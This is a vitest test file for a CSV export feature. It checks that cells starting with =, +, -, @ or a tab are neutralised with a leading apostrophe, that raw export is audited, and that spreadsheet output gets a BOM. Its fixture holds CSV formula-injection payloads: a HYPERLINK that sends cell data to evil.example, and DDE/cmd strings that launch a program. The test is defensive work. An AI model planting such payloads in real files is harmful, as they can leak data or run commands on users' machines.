import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestDatabase, type TestDatabase } from "../testing/test-database";
import { prepareExport } from "./build-export";
import { auditedDownload } from "./download-audit";
import { endExportPools } from "./read-session";
import { collect, unzipFiles } from "./testing/read-export";

const HOSTILE = {
  title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  text: "+1+cmd|' /C calc'!A0",
  notes: "@SUM(1+1)*cmd|' /C calc'!A0",
  platform: "-2+3",
  archiveUrl: "\t=DDE(\"cmd\";\"/C calc\";\"!A0\")",
};

/** On PGlite the cursor path runs, on PostgreSQL the COPY path: both get the rule from the same SQL. */
describe(`CSV cells that a spreadsheet would run as formulas (${process.env.SIGHTLINE_TEST_DB ?? "pglite"})`, () => {
  let database: TestDatabase;
  beforeAll(async () => {
    database = await createTestDatabase();
    await database.prisma.item.create({ data: { kind: "post", ...HOSTILE, languages: ["pl"], sightingCount: -5 } });
    await database.prisma.item.create({ data: { kind: "post", title: "Zażółć gęślą jaźń — Київ", notes: "2+2 is fine inside" } });
  }, 120_000);
  afterAll(async () => {
    await endExportPools();
    await database?.destroy();
  });

  const itemsCsv = async (options: { cells?: "safe" | "raw"; spreadsheet?: boolean } = {}) =>
    collect(await prepareExport(database, { format: "csv", filter: {}, table: "items", ...options }));
  const rowsOf = (csv: Buffer) => parse(csv, { columns: true, bom: true }) as Record<string, string>[];

  it("prefixes text cells starting with = + - @ or a tab with ', by default; numbers stay numbers", async () => {
    const rows = rowsOf(await itemsCsv());
    const hostile = rows.find((r) => r.title.includes("HYPERLINK"))!;
    expect(hostile.title).toBe(`'${HOSTILE.title}`);
    expect(hostile.text).toBe(`'${HOSTILE.text}`);
    expect(hostile.notes).toBe(`'${HOSTILE.notes}`);
    expect(hostile.platform).toBe(`'${HOSTILE.platform}`);
    expect(hostile.archive_url).toBe(`'${HOSTILE.archiveUrl}`);
    expect(hostile.sighting_count).toBe("-5");
    expect(hostile.kind).toBe("post");
    const plain = rows.find((r) => r.title.startsWith("Zażółć"))!;
    expect(plain.notes).toBe("2+2 is fine inside");
  });

  it("csvCells=raw writes the cells as stored, and the download's audit event says so", async () => {
    const prepared = await prepareExport(database, { format: "csv", filter: {}, table: "items", cells: "raw" });
    const audited = auditedDownload(prepared, database, { kind: "system" }, { table: "items" });
    const hostile = rowsOf(await collect(audited)).find((r) => r.title.includes("HYPERLINK"))!;
    expect(hostile.title).toBe(HOSTILE.title);
    expect(hostile.archive_url).toBe(HOSTILE.archiveUrl);
    const event = await database.prisma.auditEvent.findFirstOrThrow({ where: { entityId: audited.downloadId } });
    expect(event.after).toMatchObject({ csv: { cells: "raw", spreadsheet: false } });
  });

  it("the spreadsheet variant starts every CSV with a UTF-8 BOM; the codebook documents the rule", async () => {
    const single = await itemsCsv({ spreadsheet: true });
    expect(single.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(rowsOf(single).some((r) => r.title === "Zażółć gęślą jaźń — Київ")).toBe(true);
    expect((await itemsCsv()).subarray(0, 3).toString()).toBe("id,");

    const files = unzipFiles(await collect(await prepareExport(database, { format: "csv", filter: {}, spreadsheet: true })));
    for (const [name, bytes] of files) {
      if (name.endsWith(".csv")) expect(bytes.subarray(0, 3), name).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    }
    const codebook = rowsOf(files.get("codebook.csv")!);
    expect(codebook[0]).toMatchObject({ file: "*.csv", type: "cells", allowed_values: "safe" });
    expect(codebook[0].meaning).toMatch(/begin with = \+ - @, a tab or a carriage return start with an added '/);
    expect(JSON.parse(files.get("manifest.json")!.toString()).csv).toEqual({ cells: "safe", spreadsheet: true });
  });
});
